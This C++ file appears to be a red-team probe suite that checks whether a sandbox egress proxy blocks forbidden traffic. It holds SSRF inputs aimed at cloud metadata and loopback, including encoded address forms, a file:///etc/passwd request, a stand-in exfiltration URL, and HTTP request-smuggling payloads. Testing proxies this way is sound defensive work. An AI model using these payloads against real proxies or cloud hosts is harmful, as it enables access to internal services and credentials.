// SPDX-License-Identifier: Apache-2.0
#include <charconv>

#include "base/sys.h"
#include "eval/redteam/connection.h"
#include "eval/redteam/probe.h"

namespace redteam {
namespace {

constexpr size_t kAnswerBytesMax = size_t{64} << 10;

// Returns whether a gateway that refuses answers `status`. With any other the request was let
// through, an upstream's failure too.
bool Refuses(int status) {
  return status == 400 || status == 403 || status == 404 || status == 405 || status == 407 ||
         status == 408 || status == 411 || status == 413 || status == 414 || status == 421 ||
         status == 426 || status == 431 || status == 451 || status == 501 || status == 505;
}

int StatusAt(std::string_view answer, size_t at) {
  int status = 0;
  if (answer.size() >= at + 12) {
    std::from_chars(answer.data() + at + 9, answer.data() + at + 12, status);
  }
  return status;
}

// Every response in `answer`, so that none hides behind the first.
Attempt JudgeAnswer(std::string_view answer) {
  int seen = 0;
  for (size_t at = answer.find("HTTP/1."); at != std::string_view::npos;
       at = answer.find("HTTP/1.", at + 1)) {
    if (at > 0 && answer[at - 1] != '\n') continue;  // This one is in a body.
    int status = StatusAt(answer, at);
    if (!Refuses(status)) return {Came::kThrough, "answered " + std::to_string(status)};
    if (seen == 0) seen = status;
  }
  if (seen == 0) return {Came::kUndecided, "a response that is not HTTP/1"};
  return {Came::kStopped, std::to_string(seen)};
}

// Sends `request` to the proxy that the environment names.
Attempt AskProxy(const std::string& request) {
  Fd connection;
  Attempt attempt = ConnectToProxy(&connection);
  if (attempt.came != Came::kThrough) return attempt;
  if (!sys::WriteAll(connection.get(), request).ok()) return {Came::kStopped, "closed"};
  bool ended = false;
  std::string answer = ReadAnswer(connection, kAnswerBytesMax, &ended);
  if (answer.empty()) {
    return {ended ? Came::kStopped : Came::kUndecided, ended ? "closed" : "no answer"};
  }
  return JudgeAnswer(answer);
}

Attempt ConnectThrough(const std::string& target) {
  return AskProxy("CONNECT " + target + " HTTP/1.1\r\nHost: " + target + "\r\n\r\n");
}

Attempt GetThrough(const std::string& url, const std::string& host, const std::string& more = "") {
  return AskProxy("GET " + url + " HTTP/1.1\r\nHost: " + host + "\r\n" + more + "\r\n");
}

std::string LoopbackPort(const Targets& targets, const std::string& host) {
  return host + ":" + std::to_string(targets.port);
}

using T = const Targets&;
constexpr std::string_view kName = "redteam.invalid:443";
constexpr std::string_view kPlain = "redteam.invalid:80";

std::vector<Probe> TargetProbes() {
  using enum Category;
  return {
      {"connect", kEgress, "Have the proxy connect to a host", false,
       [](T) { return ConnectThrough("redteam.invalid:443"); }, kName},
      {"connect-port", kEgress, "... to another port of it", false,
       [](T) { return ConnectThrough("redteam.invalid:22"); }, "redteam.invalid:22"},
      {"connect-address", kEgress, "... to an address", false,
       [](T) { return ConnectThrough("192.0.2.1:443"); }, "192.0.2.1:443"},
      {"connect-ipv6", kEgress, "... to an address of IPv6", false,
       [](T) { return ConnectThrough("[2001:db8::1]:443"); }, "[2001:db8::1]:443"},
      {"connect-metadata", kEgress, "... to the cloud's metadata", false,
       [](T) { return ConnectThrough("169.254.169.254:80"); }, "169.254.169.254:80"},
      {"connect-mapped", kEgress, "... to it in IPv6's form", false,
       [](T) { return ConnectThrough("[::ffff:169.254.169.254]:80"); }, "169.254.169.254:80"},
      {"connect-number", kEgress, "... to it as a number", false,
       [](T) { return ConnectThrough("2852039166:80"); }, "169.254.169.254:80"},
      {"connect-loopback", kEgress, "... to the host's loopback", false,
       [](T t) { return ConnectThrough(LoopbackPort(t, "127.0.0.1")); }},
      {"connect-localhost", kEgress, "... to localhost", false,
       [](T t) { return ConnectThrough(LoopbackPort(t, "localhost")); }},
      {"connect-hex", kEgress, "... to loopback in hexadecimal", false,
       [](T t) { return ConnectThrough(LoopbackPort(t, "0x7f000001")); }},
      {"connect-host-name", kEgress, "... to the host by its name in the sandbox", false,
       [](T t) { return ConnectThrough(LoopbackPort(t, "host.openshell.internal")); }},
      {"connect-null", kEgress, "... to a name with a null byte", false,
       [](T) { return ConnectThrough(std::string("redteam.invalid\0.example:443", 28)); }, kName},
      {"connect-user", kEgress, "... behind a user name", false,
       [](T) { return ConnectThrough("allowed@redteam.invalid:443"); }, kName},
  };
}

std::vector<Probe> RequestProbes() {
  using enum Category;
  return {
      {"get", kEgress, "Ask the proxy for a page", false,
       [](T) { return GetThrough("http://redteam.invalid/?stolen", "redteam.invalid"); }, kPlain},
      {"get-metadata", kEgress, "... of the cloud's metadata", false,
       [](T) { return GetThrough("http://169.254.169.254/latest/meta-data/", "169.254.169.254"); },
       "169.254.169.254:80"},
      {"get-loopback", kEgress, "... of the host's loopback", false,
       [](T t) {
         return GetThrough("http://" + LoopbackPort(t, "127.0.0.1") + "/",
                           LoopbackPort(t, "127.0.0.1"));
       }},
      {"get-other-host", kEgress, "... with another Host", false,
       [](T) { return GetThrough("http://redteam.invalid/", "localhost"); }, kPlain},
      {"get-two-hosts", kEgress, "... with two Hosts", false,
       [](T) {
         return GetThrough("http://redteam.invalid/", "redteam.invalid", "Host: localhost\r\n");
       },
       kPlain},
      {"get-own", kEgress, "Ask the proxy itself, in origin form", false,
       [](T) { return GetThrough("/", "redteam.invalid"); }, kPlain},
      {"get-file", kEgress, "Ask the proxy for a file", false,
       [](T) { return GetThrough("file:///etc/passwd", "redteam.invalid"); }},
      {"websocket", kEgress, "Open a WebSocket", false,
       [](T) {
         return GetThrough("http://redteam.invalid/", "redteam.invalid",
                           "Upgrade: websocket\r\nConnection: Upgrade\r\n"
                           "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                           "Sec-WebSocket-Version: 13\r\n");
       },
       kPlain},
      {"http2-upgrade", kEgress, "Change to HTTP/2 without TLS", false,
       [](T) {
         return GetThrough("http://redteam.invalid/", "redteam.invalid",
                           "Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                           "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n");
       },
       kPlain},
      {"smuggle-length", kEgress, "Hide a request behind two lengths", false,
       [](T) {
         return GetThrough(
             "http://redteam.invalid/", "redteam.invalid",
             "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
             "GET http://redteam.invalid/hidden HTTP/1.1\r\nHost: redteam.invalid\r\n");
       },
       kPlain},
      {"smuggle-fold", kEgress, "Hide a header in a folded line", false,
       [](T) {
         return GetThrough("http://redteam.invalid/", "redteam.invalid",
                           "X-A: 1\r\n Transfer-Encoding: chunked\r\n");
       },
       kPlain},
      {"smuggle-line", kEgress, "Hide a request behind a bare line feed", false,
       [](T) {
         return AskProxy(
             "GET http://redteam.invalid/ HTTP/1.1\nHost: redteam.invalid\n\n"
             "GET http://redteam.invalid/hidden HTTP/1.1\r\nHost: x\r\n\r\n");
       },
       kPlain},
  };
}

}  // namespace

std::vector<Probe> ProxyProbes() {
  std::vector<Probe> all = TargetProbes();
  std::vector<Probe> more = RequestProbes();
  all.insert(all.end(), more.begin(), more.end());
  return all;
}

}  // namespace redteam
